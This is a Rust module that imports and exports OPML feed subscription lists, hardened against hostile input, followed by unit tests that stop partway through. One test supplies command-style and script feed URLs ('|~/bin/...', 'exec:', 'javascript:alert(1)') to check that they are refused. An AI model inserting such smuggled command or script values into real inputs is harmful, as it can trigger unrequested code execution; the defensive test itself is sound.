//! Reads and writes OPML subscription lists: folders become tags.
//!
//! [`parse_opml`] imports OPML 1.0, 1.1 and 2.0 as written by real feed readers: every `<outline>`
//! inside `<body>` that has an `xmlUrl` is a feed; the outlines around it are folders, and each
//! folder's name becomes one of the feed's tags (outermost first), as do the paths in an OPML 2.0
//! `category` attribute. Only http(s) feeds are taken (and `file://` ones when the user imports a
//! local file); commands (`|cmd`, `exec:`, `filter:`), `javascript:` and the like are refused,
//! and every outline that is not taken is listed in [`OpmlImport::skipped`] with a reason.
//!
//! The document is never trusted: the DOCTYPE is ignored (no external entity is ever read, no
//! custom entity is ever expanded), unknown entities are kept as written, titles and tags are made
//! into one clean line (no control or bidi-override characters), and no input makes it panic.
//!
//! [`write_opml`] exports OPML 2.0: one folder outline per first tag, every tag also listed in the
//! feed's `category` attribute, so that importing the file again gives the same feeds and tags.

use std::borrow::Cow;
use std::collections::HashMap;

use quick_xml::events::{BytesStart, Event};
use quick_xml::reader::Reader;
use url::Url;

/// Why an OPML document could not be read at all.
#[derive(Debug, thiserror::Error)]
pub enum OpmlError {
    /// The document is not well-formed XML; the message says where (line and column) and why.
    #[error("the OPML file is not well-formed XML: {0}")]
    Xml(String),
    /// Well-formed XML, but no `<opml>` root element, or no `<body>` in it.
    #[error("not an OPML subscription list (no <opml> root element with a <body>)")]
    NotOpml,
    /// The document declares a character encoding this reader cannot decode.
    #[error(
        "the OPML file uses the character encoding {0}, which cannot be read; convert it to UTF-8"
    )]
    Encoding(String),
}

/// One feed found in an OPML document.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OpmlEntry {
    /// The feed URL, normalised (`url::Url` serialisation): http(s), or `file://` when allowed.
    pub url: String,
    /// The outline's `title`, else its `text`; `None` when both are missing or blank.
    pub title: Option<String>,
    /// The outline's `htmlUrl` when it is an http(s) URL.
    pub site_link: Option<String>,
    /// Enclosing folders (outermost first), then the `category` paths; no duplicates.
    pub tags: Vec<String>,
}

/// The result of [`parse_opml`].
#[derive(Debug, Default)]
pub struct OpmlImport {
    /// The feeds taken, in document order, each URL once.
    pub feeds: Vec<OpmlEntry>,
    /// (what: the url or title as written, why: a short human reason) for every outline that was not taken.
    pub skipped: Vec<(String, String)>,
}

/// A feed to export with [`write_opml`].
pub struct ExportFeed<'a> {
    /// The feed URL (`xmlUrl`).
    pub url: &'a str,
    /// Written as both `text` and `title`.
    pub title: &'a str,
    /// The website (`htmlUrl`), left out when `None` or blank.
    pub site_link: Option<&'a str>,
    /// The first tag names the folder; all of them go into `category`.
    pub tags: &'a [String],
}

/// At most this many tags per feed (enclosing folders plus categories); deeper folders and further
/// categories are ignored. This bounds the work per feed on hostile, deeply nested documents.
const MAX_TAGS: usize = 32;
/// How much of an input-derived string [`OpmlImport::skipped`] keeps.
const MAX_WHAT_CHARS: usize = 200;

/// The kind of an element that is open while reading.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Root,
    Body,
    /// An outline with children; `tagged` when it pushed a folder tag.
    Outline {
        tagged: bool,
    },
    Other,
}

/// An element that is open while reading, for closing it and for error messages.
struct Open {
    kind: Kind,
    name: String,
    pos: u64,
}

/// The attributes of an `<outline>` that matter here, unescaped (names matched case-insensitively).
#[derive(Default)]
struct OutlineAttrs {
    xml_url: Option<String>,
    url: Option<String>,
    title: Option<String>,
    text: Option<String>,
    html_url: Option<String>,
    category: Option<String>,
    kind: Option<String>,
}

/// Reading state: what has been found so far.
struct Importer {
    allow_file: bool,
    out: OpmlImport,
    /// Normalised feed URL -> index in `out.feeds`.
    seen: HashMap<String, usize>,
    /// Tags of the folders around the current position, outermost first (at most `MAX_TAGS`).
    folder_tags: Vec<String>,
}

/// Reads an OPML 1.0/1.1/2.0 subscription list.
///
/// `allow_file`: whether file:// URLs (and absolute local paths) are accepted (true when the user imports a local file).
pub fn parse_opml(bytes: &[u8], allow_file: bool) -> Result<OpmlImport, OpmlError> {
    let text = decode_document(bytes)?;
    let mut reader = Reader::from_str(&text);
    {
        let config = reader.config_mut();
        // Text content is never used; a stray `&` in it should not fail an import.
        config.allow_dangling_amp = true;
        config.check_end_names = true;
        config.expand_empty_elements = false;
    }

    let mut importer = Importer {
        allow_file,
        out: OpmlImport::default(),
        seen: HashMap::new(),
        folder_tags: Vec::new(),
    };
    let mut stack: Vec<Open> = Vec::new();
    let mut body_depth = 0usize;
    let mut saw_body = false;

    loop {
        let pos = reader.buffer_position();
        let event = match reader.read_event() {
            Ok(event) => event,
            Err(e) => return Err(xml_error(&text, reader.error_position(), &e.to_string())),
        };
        let (start, has_children) = match event {
            Event::Start(start) => (start, true),
            Event::Empty(start) => (start, false),
            Event::End(_) => {
                match stack.pop().map(|open| open.kind) {
                    Some(Kind::Body) => body_depth = body_depth.saturating_sub(1),
                    Some(Kind::Outline { tagged: true }) => {
                        importer.folder_tags.pop();
                    }
                    _ => {}
                }
                if stack.is_empty() {
                    // The root element is closed: whatever follows is not part of the list.
                    break;
                }
                continue;
            }
            Event::Eof => {
                if let Some(open) = stack.last() {
                    return Err(xml_error(
                        &text,
                        open.pos,
                        &format!("<{}> is never closed (the file ends too early)", open.name),
                    ));
                }
                break;
            }
            // Declarations, the DOCTYPE (never interpreted), comments, PIs, text and entity
            // references in text carry nothing an import needs.
            _ => continue,
        };

        let local_name = start.local_name();
        let local = local_name.as_ref();
        let kind = if stack.is_empty() {
            if !local.eq_ignore_ascii_case("opml") {
                return Err(OpmlError::NotOpml);
            }
            if !has_children {
                break;
            }
            Kind::Root
        } else if body_depth == 0 {
            if stack.len() == 1 && local.eq_ignore_ascii_case("body") {
                saw_body = true;
                body_depth += 1;
                Kind::Body
            } else {
                Kind::Other
            }
        } else if local.eq_ignore_ascii_case("outline") {
            let attrs = read_outline_attrs(&start)
                .map_err(|why| xml_error(&text, pos, &format!("in <{local}>: {why}")))?;
            let tagged = importer.outline(attrs, has_children);
            Kind::Outline { tagged }
        } else {
            Kind::Other
        };
        if has_children {
            stack.push(Open {
                kind,
                name: clip(&clean_line(local), 40),
                pos,
            });
        }
    }

    if !saw_body {
        return Err(OpmlError::NotOpml);
    }
    Ok(importer.out)
}

impl Importer {
    /// Takes one `<outline>`. Returns whether it pushed a folder tag (only for outlines with children).
    fn outline(&mut self, attrs: OutlineAttrs, has_children: bool) -> bool {
        let feed_type = attrs.kind.as_deref().is_some_and(is_feed_type);
        let present = |v: &Option<String>| v.as_deref().is_some_and(|s| !s.trim().is_empty());
        let feed_url = if present(&attrs.xml_url) {
            attrs.xml_url.as_deref()
        } else if feed_type && present(&attrs.url) {
            attrs.url.as_deref()
        } else if attrs.xml_url.is_some() {
            attrs.xml_url.as_deref()
        } else if feed_type {
            attrs.url.as_deref()
        } else {
            None
        };
        let title = non_empty(attrs.title.as_deref().map(clean_line))
            .or_else(|| non_empty(attrs.text.as_deref().map(clean_line)));

        if let Some(raw) = feed_url {
            self.feed(raw, title, &attrs);
            return false;
        }
        if has_children {
            // A folder: OPML's `text` is its name, `title` the fallback.
            let name = non_empty(attrs.text.as_deref().map(clean_line))
                .or_else(|| non_empty(attrs.title.as_deref().map(clean_line)));
            if let Some(name) = name
                && self.folder_tags.len() < MAX_TAGS
            {
                self.folder_tags.push(name);
                return true;
            }
            return false;
        }
        // A leaf without a feed URL: say so when it looks like something the user expected.
        let kind = attrs.kind.as_deref().map(str::trim).unwrap_or("");
        let label = || {
            attrs
                .url
                .as_deref()
                .map(str::trim)
                .filter(|u| !u.is_empty())
                .map(what)
                .or_else(|| title.clone().map(|t| clip(&t, MAX_WHAT_CHARS)))
                .unwrap_or_else(|| "(untitled outline)".to_string())
        };
        if kind.eq_ignore_ascii_case("link") || kind.eq_ignore_ascii_case("include") {
            let why = "link to another subscription list (not followed)";
            self.out.skipped.push((label(), why.to_string()));
        } else if feed_type {
            self.out.skipped.push((label(), "no feed URL".to_string()));
        } else if present(&attrs.html_url) {
            let site = attrs.html_url.as_deref().map(str::trim).unwrap_or("");
            let why = "no feed URL (only a website link)";
            self.out.skipped.push((what(site), why.to_string()));
        }
        false
    }

    /// Takes one feed outline whose URL (as written) is `raw`.
    fn feed(&mut self, raw: &str, title: Option<String>, attrs: &OutlineAttrs) {
        let written = raw.trim();
        let site = attrs
            .html_url
            .as_deref()
            .map(str::trim)
            .filter(|s| !s.is_empty());
        if let (true, Some(site)) = (written.is_empty(), site) {
            let why = "no feed URL (only a website link)";
            self.out.skipped.push((what(site), why.to_string()));
            return;
        }
        let what = if written.is_empty() {
            title
                .as_deref()
                .map_or_else(|| "(untitled outline)".to_string(), what)
        } else {
            what(written)
        };
        let url = match check_feed_url(written, self.allow_file) {
            Ok(url) => url,
            Err(why) => {
                self.out.skipped.push((what, why.to_string()));
                return;
            }
        };
        let site_link = attrs.html_url.as_deref().and_then(web_link);
        let mut tags: Vec<String> = Vec::new();
        let categories = attrs.category.as_deref().map(category_tags);
        for tag in self
            .folder_tags
            .iter()
            .cloned()
            .chain(categories.into_iter().flatten())
        {
            push_tag(&mut tags, tag);
        }

        if let Some(&index) = self.seen.get(&url) {
            // The same feed again (often in a second folder): keep the first, add what is new.
            if let Some(first) = self.out.feeds.get_mut(index) {
                for tag in tags {
                    push_tag(&mut first.tags, tag);
                }
                if first.title.is_none() {
                    first.title = title;
                }
                if first.site_link.is_none() {
                    first.site_link = site_link;
                }
            }
            self.out.skipped.push((what, "duplicate".to_string()));
            return;
        }
        self.seen.insert(url.clone(), self.out.feeds.len());
        self.out.feeds.push(OpmlEntry {
            url,
            title,
            site_link,
            tags,
        });
    }
}

/// Adds `tag` unless it is empty, already there, or the list is full.
fn push_tag(tags: &mut Vec<String>, tag: String) {
    if !tag.is_empty() && tags.len() < MAX_TAGS && !tags.contains(&tag) {
        tags.push(tag);
    }
}

/// Whether an outline `type` names a feed (`rss`, `atom`, `RSS`, `rss+xml`, `feed`, ...).
fn is_feed_type(kind: &str) -> bool {
    let kind = kind.trim().to_ascii_lowercase();
    kind.contains("rss") || kind.contains("atom") || kind == "feed" || kind == "rdf"
}

/// Reads the attributes that matter; names are matched case-insensitively, the first one wins.
fn read_outline_attrs(start: &BytesStart<'_>) -> Result<OutlineAttrs, String> {
    let mut attrs = OutlineAttrs::default();
    let mut attributes = start.attributes();
    attributes.with_checks(false);
    for attr in attributes {
        let attr = attr.map_err(|e| e.to_string())?;
        let key = attr.key.as_ref();
        let slot = if key.eq_ignore_ascii_case("xmlUrl") {
            &mut attrs.xml_url
        } else if key.eq_ignore_ascii_case("url") {
            &mut attrs.url
        } else if key.eq_ignore_ascii_case("title") {
            &mut attrs.title
        } else if key.eq_ignore_ascii_case("text") {
            &mut attrs.text
        } else if key.eq_ignore_ascii_case("htmlUrl") {
            &mut attrs.html_url
        } else if key.eq_ignore_ascii_case("category") {
            &mut attrs.category
        } else if key.eq_ignore_ascii_case("type") {
            &mut attrs.kind
        } else {
            continue;
        };
        if slot.is_none() {
            *slot = Some(unescape_lenient(&attr.value).into_owned());
        }
    }
    Ok(attrs)
}

/// Checks a feed URL as written and returns it normalised, or a short reason for refusing it.
fn check_feed_url(written: &str, allow_file: bool) -> Result<String, &'static str> {
    if written.is_empty() {
        return Err("empty feed URL");
    }
    if written.starts_with('/') {
        if !allow_file {
            return Err("local file path (only allowed when importing a local file)");
        }
        return Url::from_file_path(written)
            .map(String::from)
            .map_err(|()| "unusable local file path");
    }
    let Ok(url) = Url::parse(written) else {
        let lower = written.get(..8).unwrap_or(written).to_ascii_lowercase();
        return Err(
            if lower.starts_with("http:") || lower.starts_with("https:") {
                "invalid http(s) URL"
            } else {
                "not an http(s) URL"
            },
        );
    };
    match url.scheme() {
        "http" | "https" => {
            if url.host_str().is_some_and(|host| !host.is_empty()) {
                Ok(url.into())
            } else {
                Err("http(s) URL without a host")
            }
        }
        "file" if !allow_file => Err("file:// URL (only allowed when importing a local file)"),
        "file" => {
            if matches!(url.host_str(), None | Some("" | "localhost")) && url.path() != "/" {
                Ok(url.into())
            } else {
                Err("unusable file:// URL")
            }
        }
        _ => Err("not an http(s) URL"),
    }
}

/// A website link (`htmlUrl`) worth keeping: http(s) with a host, normalised.
fn web_link(raw: &str) -> Option<String> {
    let url = Url::parse(raw.trim()).ok()?;
    let web = matches!(url.scheme(), "http" | "https");
    (web && url.host_str().is_some_and(|host| !host.is_empty())).then(|| url.into())
}

/// Tags from an OPML 2.0 `category` attribute: comma-separated slash paths ("/Tech/News,/b").
/// Each path's parts are cleaned and joined again without the leading slash ("Tech/News", "b").
fn category_tags(raw: &str) -> impl Iterator<Item = String> + '_ {
    raw.split(',').filter_map(|path| {
        let parts: Vec<String> = path
            .split('/')
            .map(clean_line)
            .filter(|part| !part.is_empty())
            .collect();
        (!parts.is_empty()).then(|| parts.join("/"))
    })
}

/// Makes untrusted text one clean line: whitespace runs become one space (none at the ends),
/// control characters (C0, DEL, C1) and bidi embedding/override/isolate characters are dropped.
fn clean_line(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut space = false;
    for c in raw.chars() {
        if c.is_whitespace() {
            space = !out.is_empty();
        } else if c.is_control() || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}') {
            continue;
        } else {
            if space {
                out.push(' ');
                space = false;
            }
            out.push(c);
        }
    }
    out
}

/// `Some` unless the string is empty.
fn non_empty(s: Option<String>) -> Option<String> {
    s.filter(|s| !s.is_empty())
}

/// At most `max` characters of `s`, with an ellipsis when cut.
fn clip(s: &str, max: usize) -> String {
    match s.char_indices().nth(max) {
        Some((cut, _)) => format!("{}…", &s[..cut]),
        None => s.to_string(),
    }
}

/// The "what" of a skipped outline: the value as written, made safe to show in a terminal.
fn what(raw: &str) -> String {
    clip(&clean_line(raw), MAX_WHAT_CHARS)
}

/// Replaces the XML predefined entities, character references and a few common HTML entities in
/// an attribute value. Anything else (unknown entities such as `&lol9;`, a bare `&`) is kept as
/// written: nothing is ever expanded from a DTD.
fn unescape_lenient(raw: &str) -> Cow<'_, str> {
    if !raw.contains('&') {
        return Cow::Borrowed(raw);
    }
    let mut out = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let after = &rest[amp + 1..];
        // `;` is ASCII, so its byte index is a char boundary.
        let semi = after.bytes().take(33).position(|b| b == b';');
        match semi.and_then(|end| resolve_reference(&after[..end]).map(|c| (c, end))) {
            Some((c, end)) => {
                out.push(c);
                rest = &after[end + 1..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// The character an entity or character reference (`amp`, `#233`, `#xE9`) stands for.
fn resolve_reference(name: &str) -> Option<char> {
    if let Some(number) = name.strip_prefix('#') {
        let (digits, radix) = match number.strip_prefix(['x', 'X']) {
            Some(hex) => (hex, 16),
            None => (number, 10),
        };
        if digits.is_empty() || !digits.chars().all(|c| c.is_digit(radix)) {
            return None;
        }
        return u32::from_str_radix(digits, radix)
            .ok()
            .and_then(char::from_u32)
            .filter(|&c| c != '\0');
    }
    // HTML's Latin-1 entities (U+00A0..=U+00FF, in order), which real exports contain although
    // XML does not define them.
    if let Some(index) = LATIN1_ENTITIES.iter().position(|&entity| entity == name) {
        return u32::try_from(index)
            .ok()
            .and_then(|i| char::from_u32(0xA0 + i));
    }
    Some(match name {
        "amp" => '&',
        "lt" => '<',
        "gt" => '>',
        "quot" => '"',
        "apos" => '\'',
        "hellip" => '…',
        "mdash" => '—',
        "ndash" => '–',
        "lsquo" => '‘',
        "rsquo" => '’',
        "sbquo" => '‚',
        "ldquo" => '“',
        "rdquo" => '”',
        "bdquo" => '„',
        "lsaquo" => '‹',
        "rsaquo" => '›',
        "bull" => '•',
        "trade" => '™',
        "euro" => '€',
        "OElig" => 'Œ',
        "oelig" => 'œ',
        "Scaron" => 'Š',
        "scaron" => 'š',
        "Yuml" => 'Ÿ',
        _ => return None,
    })
}

/// HTML entity names for U+00A0..=U+00FF, in code point order.
const LATIN1_ENTITIES: [&str; 96] = [
    "nbsp", "iexcl", "cent", "pound", "curren", "yen", "brvbar", "sect", "uml", "copy", "ordf",
    "laquo", "not", "shy", "reg", "macr", "deg", "plusmn", "sup2", "sup3", "acute", "micro",
    "para", "middot", "cedil", "sup1", "ordm", "raquo", "frac14", "frac12", "frac34", "iquest",
    "Agrave", "Aacute", "Acirc", "Atilde", "Auml", "Aring", "AElig", "Ccedil", "Egrave", "Eacute",
    "Ecirc", "Euml", "Igrave", "Iacute", "Icirc", "Iuml", "ETH", "Ntilde", "Ograve", "Oacute",
    "Ocirc", "Otilde", "Ouml", "times", "Oslash", "Ugrave", "Uacute", "Ucirc", "Uuml", "Yacute",
    "THORN", "szlig", "agrave", "aacute", "acirc", "atilde", "auml", "aring", "aelig", "ccedil",
    "egrave", "eacute", "ecirc", "euml", "igrave", "iacute", "icirc", "iuml", "eth", "ntilde",
    "ograve", "oacute", "ocirc", "otilde", "ouml", "divide", "oslash", "ugrave", "uacute", "ucirc",
    "uuml", "yacute", "thorn", "yuml",
];

/// An [`OpmlError::Xml`] with the line and column of byte `pos` of `text`.
fn xml_error(text: &str, pos: u64, why: &str) -> OpmlError {
    let pos = usize::try_from(pos).unwrap_or(usize::MAX).min(text.len());
    let before = text.as_bytes().get(..pos).unwrap_or_default();
    let line = before.iter().filter(|&&b| b == b'\n').count() + 1;
    let line_start = before
        .iter()
        .rposition(|&b| b == b'\n')
        .map_or(0, |i| i + 1);
    let column = before
        .get(line_start..)
        .unwrap_or_default()
        .iter()
        .filter(|&&b| b & 0xC0 != 0x80)
        .count()
        + 1;
    OpmlError::Xml(format!("line {line}, column {column}: {}", clean_line(why)))
}

/// Turns the document into UTF-8 text: UTF-8 (with or without BOM), UTF-16 (BOM or `<?` sniffing),
/// and ISO-8859-1 / windows-1252 / US-ASCII as declared. Other declared encodings are refused
/// unless the document is plain ASCII. Without a declaration, bytes that are not UTF-8 are read
/// as windows-1252; with a UTF-8 declaration, invalid bytes become U+FFFD.
fn decode_document(bytes: &[u8]) -> Result<Cow<'_, str>, OpmlError> {
    if let Some(rest) = bytes.strip_prefix(b"\xEF\xBB\xBF") {
        return Ok(String::from_utf8_lossy(rest));
    }
    if bytes.starts_with(&[0, 0, 0xFE, 0xFF]) || bytes.starts_with(&[0xFF, 0xFE, 0, 0]) {
        return Err(OpmlError::Encoding("UTF-32".to_string()));
    }
    if let Some(rest) = bytes.strip_prefix(&[0xFF, 0xFE]) {
        return Ok(Cow::Owned(decode_utf16(rest, u16::from_le_bytes)));
    }
    if let Some(rest) = bytes.strip_prefix(&[0xFE, 0xFF]) {
        return Ok(Cow::Owned(decode_utf16(rest, u16::from_be_bytes)));
    }
    if bytes.starts_with(&[b'<', 0, b'?', 0]) {
        return Ok(Cow::Owned(decode_utf16(bytes, u16::from_le_bytes)));
    }
    if bytes.starts_with(&[0, b'<', 0, b'?']) {
        return Ok(Cow::Owned(decode_utf16(bytes, u16::from_be_bytes)));
    }
    let Some(label) = declared_encoding(bytes) else {
        return Ok(match std::str::from_utf8(bytes) {
            Ok(text) => Cow::Borrowed(text),
            Err(_) => Cow::Owned(decode_windows_1252(bytes)),
        });
    };
    match label.as_str() {
        "utf-8" | "utf8" | "unicode-1-1-utf-8" => Ok(String::from_utf8_lossy(bytes)),
        // Declared as UTF-16 but read as ASCII: the declaration is wrong, the bytes are 8-bit.
        l if l.starts_with("utf-16") || l == "unicode" || l == "ucs-2" => {
            Ok(String::from_utf8_lossy(bytes))
        }
        "iso-8859-1" | "iso8859-1" | "iso_8859-1" | "iso_8859-1:1987" | "latin1" | "latin-1"
        | "l1" | "cp819" | "ibm819" | "iso-ir-100" | "csisolatin1" | "windows-1252" | "cp1252"
        | "x-cp1252" | "us-ascii" | "ascii" | "ansi_x3.4-1968" => {
            Ok(match std::str::from_utf8(bytes) {
                Ok(text) if text.is_ascii() => Cow::Borrowed(text),
                _ => Cow::Owned(decode_windows_1252(bytes)),
            })
        }
        _ if bytes.is_ascii() => Ok(String::from_utf8_lossy(bytes)),
        other => Err(OpmlError::Encoding(clip(&clean_line(other), 40))),
    }
}

/// The `encoding` of the XML declaration, lower-cased, when there is one near the start.
fn declared_encoding(bytes: &[u8]) -> Option<String> {
    let head = bytes.get(..bytes.len().min(1024)).unwrap_or(bytes);
    let start = find(head, b"<?xml")?;
    let decl = head.get(start..)?;
    let decl = decl.get(..find(decl, b"?>")?)?;
    let rest = decl.get(find(decl, b"encoding")? + b"encoding".len()..)?;
    let rest = rest
        .trim_ascii_start()
        .strip_prefix(b"=")?
        .trim_ascii_start();
    let (&quote, rest) = rest.split_first()?;
    if quote != b'"' && quote != b'\'' {
        return None;
    }
    let value = rest.get(..rest.iter().position(|&b| b == quote)?)?;
    let label = String::from_utf8_lossy(value).trim().to_ascii_lowercase();
    (!label.is_empty()).then_some(label)
}

/// The index of the first occurrence of `needle` in `haystack`.
fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// UTF-16 in the given byte order; unpaired surrogates become U+FFFD, an odd last byte is dropped.
fn decode_utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> String {
    let units = bytes.chunks_exact(2).map(|pair| unit([pair[0], pair[1]]));
    char::decode_utf16(units)
        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect()
}

/// windows-1252, which is also what ISO-8859-1 labels mean in practice (as in browsers).
fn decode_windows_1252(bytes: &[u8]) -> String {
    const HIGH: [char; 32] = [
        '€', '\u{81}', '‚', 'ƒ', '„', '…', '†', '‡', 'ˆ', '‰', 'Š', '‹', 'Œ', '\u{8D}', 'Ž',
        '\u{8F}', '\u{90}', '‘', '’', '“', '”', '•', '–', '—', '˜', '™', 'š', '›', 'œ', '\u{9D}',
        'ž', 'Ÿ',
    ];
    bytes
        .iter()
        .map(|&b| match b {
            0x80..=0x9F => HIGH[usize::from(b - 0x80)],
            _ => char::from(b),
        })
        .collect()
}

/// Writes an OPML 2.0 document; feeds grouped in folder outlines by their first tag (feeds
/// without tags at top level); every feed also carries a `category` attribute listing all its
/// tags ("/a,/b" OPML 2.0 style); title = "tidings subscriptions".
///
/// Folders and untagged feeds keep the order of `feeds` (a folder sits where its first feed is).
/// Empty tags are ignored, and tags containing a comma are left out of `category` (the list is
/// comma-separated), though a first tag still names the folder.
pub fn write_opml(feeds: &[ExportFeed<'_>]) -> String {
    enum Item<'t> {
        Feed(usize),
        Folder(&'t str, Vec<usize>),
    }
    let mut items: Vec<Item<'_>> = Vec::new();
    let mut folders: HashMap<&str, usize> = HashMap::new();
    for (index, feed) in feeds.iter().enumerate() {
        let first_tag = feed.tags.iter().map(|t| t.trim()).find(|t| !t.is_empty());
        match first_tag {
            None => items.push(Item::Feed(index)),
            Some(tag) => match folders.get(tag).and_then(|&i| items.get_mut(i)) {
                Some(Item::Folder(_, members)) => members.push(index),
                _ => {
                    folders.insert(tag, items.len());
                    items.push(Item::Folder(tag, vec![index]));
                }
            },
        }
    }

    let mut out = String::from(concat!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n",
        "<opml version=\"2.0\">\n",
        "  <head>\n",
        "    <title>tidings subscriptions</title>\n",
        "  </head>\n",
        "  <body>\n",
    ));
    for item in &items {
        match item {
            Item::Feed(index) => {
                if let Some(feed) = feeds.get(*index) {
                    write_feed(&mut out, feed, "    ");
                }
            }
            Item::Folder(tag, members) => {
                let name = escape_attr(tag);
                out.push_str(&format!("    <outline text=\"{name}\" title=\"{name}\">\n"));
                for feed in members.iter().filter_map(|&i| feeds.get(i)) {
                    write_feed(&mut out, feed, "      ");
                }
                out.push_str("    </outline>\n");
            }
        }
    }
    out.push_str("  </body>\n</opml>\n");
    out
}

/// One feed outline.
fn write_feed(out: &mut String, feed: &ExportFeed<'_>, indent: &str) {
    let title = escape_attr(feed.title);
    out.push_str(indent);
    out.push_str(&format!(
        "<outline type=\"rss\" text=\"{title}\" title=\"{title}\""
    ));
    out.push_str(&format!(" xmlUrl=\"{}\"", escape_attr(feed.url)));
    if let Some(site) = feed.site_link.filter(|s| !s.trim().is_empty()) {
        out.push_str(&format!(" htmlUrl=\"{}\"", escape_attr(site)));
    }
    let categories: Vec<String> = feed
        .tags
        .iter()
        .map(|t| t.trim())
        .filter(|t| !t.is_empty() && !t.contains(','))
        .map(|t| format!("/{t}"))
        .collect();
    if !categories.is_empty() {
        out.push_str(&format!(
            " category=\"{}\"",
            escape_attr(&categories.join(","))
        ));
    }
    out.push_str("/>\n");
}

/// Escapes text for a double-quoted XML attribute. Tabs and line breaks become character
/// references (so they survive attribute normalisation); characters XML 1.0 forbids are dropped.
fn escape_attr(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    for c in raw.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\t' => out.push_str("&#9;"),
            '\n' => out.push_str("&#10;"),
            '\r' => out.push_str("&#13;"),
            '\u{0}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}' => {}
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::Path;
    use std::time::{Duration, Instant};

    const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/opml");
    const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/feeds");

    fn fixture(name: &str) -> Vec<u8> {
        let path = format!("{FIXTURES}/{name}");
        std::fs::read(&path).unwrap_or_else(|e| panic!("cannot read {path}: {e}"))
    }

    fn parse(doc: &str) -> OpmlImport {
        parse_opml(doc.as_bytes(), false).expect("the test document parses")
    }

    /// An OPML document with the given body.
    fn opml(body: &str) -> String {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\">\n<head><title>t</title></head>\n<body>\n{body}\n</body>\n</opml>\n"
        )
    }

    fn urls(import: &OpmlImport) -> Vec<&str> {
        import.feeds.iter().map(|f| f.url.as_str()).collect()
    }

    fn feed<'a>(import: &'a OpmlImport, url: &str) -> &'a OpmlEntry {
        import
            .feeds
            .iter()
            .find(|f| f.url == url)
            .unwrap_or_else(|| panic!("no feed {url} in {:?}", import.feeds))
    }

    fn strings(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| s.to_string()).collect()
    }

    fn reason<'a>(import: &'a OpmlImport, what: &str) -> &'a str {
        import
            .skipped
            .iter()
            .find(|(w, _)| w == what)
            .map(|(_, why)| why.as_str())
            .unwrap_or_else(|| panic!("{what} was not skipped: {:?}", import.skipped))
    }

    #[test]
    fn nested_folders_become_tags_outermost_first() {
        let import = parse(&opml(
            r#"<outline text="Tech">
                 <outline text="Rust" title="ignored for folders">
                   <outline type="rss" text="This Week" xmlUrl="https://this-week-in-rust.org/rss.xml"/>
                   <outline title="Empty folder"/>
                 </outline>
                 <outline type="rss" title="LWN" xmlUrl="https://lwn.net/headlines/rss"/>
               </outline>
               <outline title="Titled folder"><outline xmlUrl="https://a.example/feed"/></outline>
               <outline type="rss" text="Top" xmlUrl="https://top.example/feed"/>"#,
        ));
        assert_eq!(
            urls(&import),
            [
                "https://this-week-in-rust.org/rss.xml",
                "https://lwn.net/headlines/rss",
                "https://a.example/feed",
                "https://top.example/feed",
            ]
        );
        let twir = feed(&import, "https://this-week-in-rust.org/rss.xml");
        assert_eq!(twir.tags, strings(&["Tech", "Rust"]));
        assert_eq!(twir.title.as_deref(), Some("This Week"));
        assert_eq!(
            feed(&import, "https://lwn.net/headlines/rss").tags,
            strings(&["Tech"])
        );
        assert_eq!(
            feed(&import, "https://a.example/feed").tags,
            strings(&["Titled folder"])
        );
        assert!(feed(&import, "https://top.example/feed").tags.is_empty());
        assert!(import.skipped.is_empty(), "{:?}", import.skipped);
    }

    #[test]
    fn category_attribute_adds_tags() {
        let import = parse(&opml(
            r#"<outline text="Folder">
                 <outline xmlUrl="http://a.example/" category="/Tech/News,/b, ,Folder,/b,plain"/>
               </outline>
               <outline xmlUrl="http://b.example/" category=" / , root1 / , root2// /node2 ,,"/>"#,
        ));
        assert_eq!(
            feed(&import, "http://a.example/").tags,
            strings(&["Folder", "Tech/News", "b", "plain"])
        );
        assert_eq!(
            feed(&import, "http://b.example/").tags,
            strings(&["root1", "root2/node2"])
        );
    }

    #[test]
    fn duplicate_urls_are_skipped_and_their_tags_merged() {
        let import = parse(&opml(
            r#"<outline text="One"><outline text="First" xmlUrl="https://dup.example/feed"/></outline>
               <outline text="Two"><outline text="Second" xmlUrl=" https://dup.example/feed "/></outline>
               <outline text="Again" xmlUrl="HTTPS://DUP.example/feed"/>"#,
        ));
        assert_eq!(import.feeds.len(), 1);
        let only = &import.feeds[0];
        assert_eq!(only.title.as_deref(), Some("First"));
        assert_eq!(only.tags, strings(&["One", "Two"]));
        assert_eq!(
            import.skipped,
            vec![
                (
                    "https://dup.example/feed".to_string(),
                    "duplicate".to_string()
                ),
                (
                    "HTTPS://DUP.example/feed".to_string(),
                    "duplicate".to_string()
                ),
            ]
        );
    }

    #[test]
    fn commands_and_other_schemes_are_skipped() {
        let import = parse(&opml(
            r#"<outline text="pipe" xmlUrl="|~/bin/fetch_tweets.py"/>
               <outline text="exec" xmlUrl="exec:~/bin/feed.sh"/>
               <outline text="filter" xmlUrl="filter:~/bin/f.pl:https://example.com/x"/>
               <outline text="js" xmlUrl="javascript:alert(1)"/>
               <outline text="JS" xmlUrl="  JavaScript:alert(1)"/>
               <outline text="query" xmlUrl="query:Unread:unread = &quot;yes&quot;"/>
               <outline text="data" xmlUrl="data:text/xml,&lt;rss/&gt;"/>
